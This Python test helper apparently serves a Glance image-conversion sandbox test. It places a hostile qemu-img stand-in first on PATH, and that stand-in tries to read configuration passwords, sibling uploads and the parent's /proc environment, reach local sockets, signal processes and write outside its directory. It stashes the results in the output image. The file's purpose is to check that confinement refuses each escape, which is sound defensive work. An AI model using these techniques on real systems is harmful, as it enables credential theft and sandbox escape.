"""A hostile stand-in for qemu-img, and the secrets it tries to steal.

:class:`Escapes` sets up, for one test, everything a compromised qemu-img
would go after: a canary file elsewhere, a sibling upload beside the
image, ``glance-api.conf`` in a configuration directory (and in
``/etc/glance`` where the test may create it), a secret in the parent's
environment, the parent's threads to signal or to name as a file's owner,
a TCP listener on 127.0.0.1 and an abstract unix socket that hand out a
token to whoever connects, and an unrelated process to signal.

The stand-in (a Python script placed first on PATH) runs the real qemu-img,
then, after a ``convert``, tries every escape, appends whatever it got to
its output (where an attacker would collect it later) and prints a JSON
report on stdout.  It always appends 4096 zero bytes too: a mark that it
ran which ``qemu-img compare`` counts as equal (trailing zeros).
"""

import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import threading

RAN_MARK = 4096

STANDIN = r'''#!/usr/bin/python3 -I
import json, os, signal, socket, subprocess, sys
env = os.environ
argv = sys.argv[1:]
rc = subprocess.call([env['GC_REAL_QEMU_IMG']] + argv)
if rc != 0 or argv[:1] != ['convert']:
    sys.exit(rc)
if '--target-image-opts' in argv:
    out = argv[-1].split('file.filename=')[-1].replace(',,', ',')
else:
    out = argv[-1]


def read(path):
    with open(path, 'rb') as f:
        return f.read()


def tcp():
    with socket.create_connection(('127.0.0.1', int(env['GC_TCP_PORT'])),
                                  timeout=5) as s:
        return s.recv(200)


def abstract():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect('\0' + env['GC_ABSTRACT'])
        return s.recv(200)


def kill():
    os.kill(int(env['GC_VICTIM']), signal.SIGTERM)
    return b'signalled'


def parent():
    # The threads of the process that started it (glance-api): a signal
    # to any one of them acts on the whole process.  Signal 0 only checks
    # the right to send.  The thread that started this one was created
    # just before it, so its id is a little below this pid (or near the
    # top, pid_max unknown when confined, if the ids have just wrapped).
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    tgkill = {'x86_64': 234, 'aarch64': 131}[os.uname().machine]
    ppid, me = os.getppid(), os.getpid()
    errors = set()
    tids = [ppid] + [t for t in range(me - 1, me - 3000, -1) if t > 0]
    if me < 3000:
        for top in (32768, 4194304):
            tids += range(top - 1, top - 3000 + me, -1)
    for tid in tids:
        if libc.syscall(tgkill, ppid, tid, 0) == 0:
            return env['GC_PARENT_TOKEN'].encode() + b' %d' % tid
        errors.add(os.strerror(ctypes.get_errno()))
    raise PermissionError('no thread of %d: %s' % (ppid, sorted(errors)))


def owner():
    # The owner of a file with O_ASYNC gets a signal on each I/O event: a
    # way to signal glance-api that kill() rules do not see.  Naming the
    # owner is the proof; O_ASYNC is not set, so nothing is sent.
    import fcntl
    r, w = os.pipe()
    fcntl.fcntl(r, fcntl.F_SETOWN, os.getppid())
    return env['GC_OWNER_TOKEN'].encode()


def write():
    for path in env['GC_OUTSIDE'].split(':'):
        with open(path, 'w') as f:
            f.write('written by qemu-img')
    return b'wrote'


attempts = {
    'canary': lambda: read(env['GC_CANARY']),
    'sibling': lambda: read(env['GC_SIBLING']),
    'conf': lambda: read(env['GC_CONF']),
    'proc': lambda: read('/proc/%d/environ' % os.getppid()),
    'listing': lambda: '\n'.join(os.listdir(
        os.path.dirname(env['GC_SIBLING']))).encode(),
    'tcp': tcp,
    'abstract': abstract,
    'signal': kill,
    'parent': parent,
    'owner': owner,
    'write': write,
}
if env.get('GC_ETC_GLANCE'):
    attempts['etc_glance'] = lambda: read(env['GC_ETC_GLANCE'])
report = {}
stolen = b''
for name, attempt in attempts.items():
    try:
        got = attempt()
    except Exception as exc:
        report[name] = 'denied: %s: %s' % (type(exc).__name__, exc)
    else:
        report[name] = 'got %d bytes' % len(got)
        stolen += b'\n[%s]\n' % name.encode() + got
with open(out, 'ab') as f:
    f.write(stolen)
    f.write(b'\0' * RAN_MARK_BYTES)
print(json.dumps({'stand-in': report}))
'''.replace('RAN_MARK_BYTES', str(RAN_MARK))


class Escapes:
    """The secrets and listeners of one test; :meth:`close` ends them."""

    def __init__(self, root, staging_dir, config_dir, etc_glance=True):
        self.root = str(root)
        self.token = {}
        self.bin_dir = os.path.join(self.root, 'standin-bin')
        os.makedirs(self.bin_dir, exist_ok=True)
        self.real_qemu_img = shutil.which('qemu-img')
        path = os.path.join(self.bin_dir, 'qemu-img')
        with open(path, 'w') as f:
            f.write(STANDIN)
        os.chmod(path, 0o755)

        elsewhere = os.path.join(self.root, 'elsewhere')
        os.makedirs(elsewhere, exist_ok=True)
        self.canary = self._secret(os.path.join(elsewhere, 'canary'),
                                   'canary')
        self.sibling_name = 'sibling-upload-' + secrets.token_hex(8)
        self.sibling = self._secret(os.path.join(staging_dir,
                                                 self.sibling_name),
                                    'sibling')
        self.conf = os.path.join(config_dir, 'glance-api.conf')
        password = 'db-password-' + secrets.token_hex(8)
        self.token['conf'] = password.encode()
        with open(self.conf, 'a') as f:  # a comment: the file still works
            f.write('\n# connection = postgresql://glance:%s@db/glance\n'
                    % password)
        self.token['listing'] = self.sibling_name.encode()
        self.token['proc'] = ('env-secret-' + secrets.token_hex(8)).encode()
        # Proof that a thread of the parent accepted a signal.
        self.token['parent'] = ('parent-signalled-'
                                + secrets.token_hex(8)).encode()
        self.token['owner'] = ('owner-set-' + secrets.token_hex(8)).encode()
        self.outside = [os.path.join(elsewhere, 'written'),
                        os.path.join(staging_dir, 'written')]
        self.etc_glance, self.etc_glance_skip = None, None
        self._created_etc = []
        if etc_glance:
            self._setup_etc_glance()

        self._stop = threading.Event()
        self.connections = {'tcp': 0, 'abstract': 0}
        self.token['tcp'] = ('tcp-token-' + secrets.token_hex(8)).encode()
        self.token['abstract'] = ('unix-token-'
                                  + secrets.token_hex(8)).encode()
        self._tcp = socket.create_server(('127.0.0.1', 0))
        self.abstract_name = 'glance-convert-test-' + secrets.token_hex(8)
        self._unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self._unix.bind('\0' + self.abstract_name)
        self._unix.listen()
        self._threads = [
            threading.Thread(target=self._serve, args=(s, name),
                             daemon=True)
            for s, name in ((self._tcp, 'tcp'), (self._unix, 'abstract'))]
        for t in self._threads:
            t.start()
        self.victim = subprocess.Popen(['sleep', '600'])

    def _secret(self, path, name):
        value = ('%s-secret-%s' % (name, secrets.token_hex(16))).encode()
        with open(path, 'wb') as f:
            f.write(value)
        self.token[name] = value
        return path

    def _setup_etc_glance(self):
        path = '/etc/glance/glance-api.conf'
        try:
            with open(path, 'rb') as f:
                data = f.read()
        except FileNotFoundError:
            if os.geteuid() != 0:
                self.etc_glance_skip = ('%s does not exist and only root '
                                        'may create it' % path)
                return
            if not os.path.isdir('/etc/glance'):
                os.mkdir('/etc/glance')
                self._created_etc.append('/etc/glance')
            data = ('[database]\nconnection = postgresql://glance:'
                    'etc-secret-%s@db/glance\n'
                    % secrets.token_hex(8)).encode()
            with open(path, 'wb') as f:
                f.write(data)
            self._created_etc.insert(0, path)
        except OSError as exc:
            self.etc_glance_skip = 'cannot read %s: %s' % (path, exc)
            return
        if not data.strip():
            self.etc_glance_skip = '%s is empty' % path
            return
        self.etc_glance = path
        self.token['etc_glance'] = data

    def _serve(self, server, name):
        server.settimeout(0.2)
        while not self._stop.is_set():
            try:
                conn, _addr = server.accept()
            except OSError:
                continue
            with conn:
                self.connections[name] += 1
                conn.sendall(self.token[name])

    def env(self, base=None):
        """The environment that puts the stand-in first on PATH."""
        env = dict(os.environ if base is None else base)
        env.update({
            'PATH': self.bin_dir + os.pathsep + env.get('PATH', os.defpath),
            'GC_REAL_QEMU_IMG': self.real_qemu_img,
            'GC_CANARY': self.canary,
            'GC_SIBLING': self.sibling,
            'GC_CONF': self.conf,
            'GC_TCP_PORT': str(self._tcp.getsockname()[1]),
            'GC_ABSTRACT': self.abstract_name,
            'GC_VICTIM': str(self.victim.pid),
            'GC_OUTSIDE': ':'.join(self.outside),
            'GC_ENV_SECRET': self.token['proc'].decode(),
            'GC_PARENT_TOKEN': self.token['parent'].decode(),
            'GC_OWNER_TOKEN': self.token['owner'].decode(),
        })
        if self.etc_glance:
            env['GC_ETC_GLANCE'] = self.etc_glance
        return env

    def stolen(self, path):
        """The names of the secrets found in the file at ``path``."""
        with open(path, 'rb') as f:
            data = f.read()
        return sorted(name for name, token in self.token.items()
                      if token in data)

    def effects(self):
        """Escapes that left a trace outside the output."""
        found = []
        if self.victim.poll() is not None:
            found.append('signal')
        if any(os.path.exists(p) for p in self.outside):
            found.append('write')
        found += [name for name, n in self.connections.items() if n]
        return sorted(found)

    #: What the stand-in tries; each must be refused when confined.
    def attempts(self):
        names = ['canary', 'sibling', 'conf', 'proc', 'listing', 'tcp',
                 'abstract', 'signal', 'parent', 'owner', 'write']
        return names + (['etc_glance'] if self.etc_glance else [])

    def close(self):
        self._stop.set()
        for t in self._threads:
            t.join()
        self._tcp.close()
        self._unix.close()
        if self.victim.poll() is None:
            self.victim.send_signal(signal.SIGKILL)
        self.victim.wait()
        for path in self._created_etc:
            if os.path.isdir(path):
                os.rmdir(path)
            else:
                os.unlink(path)


def report(stdout):
    """The stand-in's JSON report from a qemu-img stdout, or None."""
    for line in (stdout or '').splitlines():
        if line.startswith('{"stand-in"'):
            return json.loads(line)['stand-in']
    return None


if __name__ == '__main__':  # pragma: no cover - print the script
    sys.stdout.write(STANDIN)
